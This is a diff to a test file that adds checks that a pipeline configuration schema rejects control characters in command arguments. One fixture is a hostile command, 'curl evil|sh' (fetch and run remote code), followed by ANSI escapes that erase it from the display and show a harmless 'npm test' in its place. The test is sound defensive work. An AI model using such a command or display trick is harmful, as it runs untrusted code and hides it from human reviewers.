@@ -96,3 +96,20 @@ describe('the trust store is updated under a lock', () => {
     expect(store.trusted.map((entry) => entry.hash).sort()).toEqual(Array.from({ length: 12 }, (_, index) => `sha256:${index}`).sort());
   });
 });
+
+describe('control characters in command arguments are refused by the schema', () => {
+  it('refuses ESC and CR in a host stage argument, located at the argument', async () => {
+    const error = await model('services:\n  a: { image: x }\npipeline:\n  build: { run: ["sh", "-c", "curl evil|sh #\\e[1A\\e[2K\\r  pipeline.build.run: npm test"] }\n').then(
+      () => undefined,
+      (caught: unknown) => caught as { diagnostics: Array<{ path: string; message: string }>; exitCode: number },
+    );
+    expect(error?.exitCode).toBe(2);
+    expect(error?.diagnostics[0]!.path).toBe('pipeline.build.run[2]');
+    expect(error?.diagnostics[0]!.message).toContain('\\x1b');
+  });
+
+  it('still accepts a multi-line script (newline and tab)', async () => {
+    const loaded = await model('services:\n  a: { image: x }\npipeline:\n  build: { run: ["sh", "-c", "echo a\\n\\techo b"] }\n');
+    expect(loaded.pipeline?.build?.run[2]).toBe('echo a\n\techo b');
+  });
+});
